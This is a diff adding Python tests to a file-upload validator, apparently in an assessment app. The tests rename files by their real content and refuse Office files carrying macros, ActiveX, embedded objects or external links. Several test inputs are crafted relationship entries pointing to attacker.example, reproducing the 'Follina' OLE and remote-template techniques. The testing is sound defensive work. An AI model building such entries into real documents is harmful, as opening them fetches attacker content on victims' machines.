@@ -24,12 +24,22 @@ def nothing_written(assessment, settings):
     return (EvidenceDocument.objects.count(), AuditEntry.objects.count(), stored_files(settings))
 
 
-def office_file(main_part: str) -> bytes:
+def office_file(main_part: str, **parts: str) -> bytes:
     buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as archive:
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("[Content_Types].xml", "<Types/>")
         archive.writestr(main_part, "<x/>")
+        for name, text in parts.items():
+            archive.writestr(name.replace("__", "/"), text)
     return buffer.getvalue()
+
+
+def relationships(*links: str) -> str:
+    return ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
+            'package/2006/relationships">' + "".join(links) + "</Relationships>")
+
+
+RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 
 
 def upload(assessment, user, file, question_id="4.1", kind="coa", **extra):
@@ -179,3 +189,85 @@ def test_a_failure_after_storing_leaves_no_file(assessment, practitioner, settin
     with pytest.raises(RuntimeError):
         upload(assessment, practitioner, pdf_upload())
     assert nothing_written(assessment, settings) == before
+
+
+# ------------------------------------------------------------- names and active content
+
+@pytest.mark.parametrize("name,content,stored_as", [
+    ("CoA-report.html", PDF_BYTES, "CoA-report.html.pdf"),
+    ("invoice.cmd", PDF_BYTES, "invoice.cmd.pdf"),
+    ("CoA.PDF", PDF_BYTES, "CoA.PDF"),
+    ("scan.jpeg", b"\xff\xd8\xff\xe0" + b"\0" * 20, "scan.jpeg"),
+    ("scan.png", b"\xff\xd8\xff\xe0" + b"\0" * 20, "scan.png.jpg"),
+    ("report.docm", office_file("word/document.xml"), "report.docm.docx"),
+])
+def test_a_file_is_named_with_the_extension_of_its_content(assessment, practitioner, name,
+                                                           content, stored_as):
+    """The computer that downloads it opens it by its extension, not by its content."""
+    document = upload(assessment, practitioner, SimpleUploadedFile(name, content))
+    assert document.original_name == stored_as
+
+
+@pytest.mark.parametrize("main,parts", [
+    ("word/document.xml", {"word__vbaProject.bin": "macros"}),
+    ("xl/workbook.xml", {"xl__vbaProject.bin": "macros"}),
+    ("word/document.xml", {"word__activeX__activeX1.xml": "<ax/>"}),
+    ("word/document.xml", {"word__embeddings__oleObject1.bin": "ole"}),
+    # A template or an OLE object fetched from outside when the file opens ("Follina").
+    ("word/document.xml", {"word___rels__document.xml.rels": relationships(
+        f'<Relationship Id="rId9" Type="{RELS}/oleObject" '
+        'Target="http://attacker.example/x.html!" TargetMode="External"/>')}),
+    ("word/document.xml", {"word___rels__settings.xml.rels": relationships(
+        f"<Relationship TargetMode='External' Id='r1' Type='{RELS}/attachedTemplate' "
+        "Target='https://attacker.example/t.dotm'/>")}),
+    # "hyperlink" in the address does not make an OLE object a hyperlink.
+    ("word/document.xml", {"word___rels__document.xml.rels": relationships(
+        f'<Relationship Id="r2" Type="{RELS}/oleObject" TargetMode="External" '
+        'Target="http://attacker.example/relationships/hyperlink"/>')}),
+])
+def test_office_files_with_active_content_are_refused(assessment, practitioner, settings, main,
+                                                       parts):
+    before = nothing_written(assessment, settings)
+    with pytest.raises(InvalidInput, match="macros, ActiveX controls, embedded objects"):
+        upload(assessment, practitioner, SimpleUploadedFile("report.docx",
+                                                            office_file(main, **parts)))
+    assert nothing_written(assessment, settings) == before
+
+
+def test_an_office_file_with_hyperlinks_and_printer_settings_is_accepted(assessment,
+                                                                          practitioner):
+    content = office_file("xl/workbook.xml", **{
+        "xl__printerSettings__printerSettings1.bin": "printer",
+        "xl__worksheets___rels__sheet1.xml.rels": relationships(
+            f'<Relationship Id="rId1" Type="{RELS}/hyperlink" '
+            'Target="https://www.fda.gov/" TargetMode="External"/>',
+            f'<Relationship Id="rId2" Type="{RELS}/printerSettings" '
+            'Target="../printerSettings/printerSettings1.bin"/>')})
+    document = upload(assessment, practitioner, SimpleUploadedFile("batch.xlsx", content))
+    assert document.content_type.endswith("spreadsheetml.sheet")
+
+
+def test_a_zip_of_too_many_parts_is_refused_before_it_is_opened(assessment, practitioner,
+                                                                 settings, monkeypatch):
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("word/document.xml", "<x/>")
+        for n in range(5_000):
+            archive.writestr(f"p/{n}", "")
+    opened = []
+    monkeypatch.setattr(zipfile.ZipFile, "_RealGetContents",
+                        lambda self: opened.append(1) or (_ for _ in ()).throw(AssertionError))
+    before = nothing_written(assessment, settings)
+    with pytest.raises(InvalidInput, match="more than 5,000 parts"):
+        upload(assessment, practitioner, SimpleUploadedFile("big.docx", buffer.getvalue()))
+    assert opened == []  # refused from the end record: no entry header read
+    assert nothing_written(assessment, settings) == before
+
+
+def test_relationship_lists_beyond_their_budget_are_not_read(assessment, practitioner):
+    huge = relationships(*[f'<Relationship Id="r{n}" Type="{RELS}/image" Target="x{n}.png"/>'
+                           for n in range(30_000)])
+    with pytest.raises(InvalidInput, match="macros, ActiveX controls"):
+        upload(assessment, practitioner, SimpleUploadedFile("report.docx", office_file(
+            "word/document.xml", **{"word/_rels/document.xml.rels": huge})))
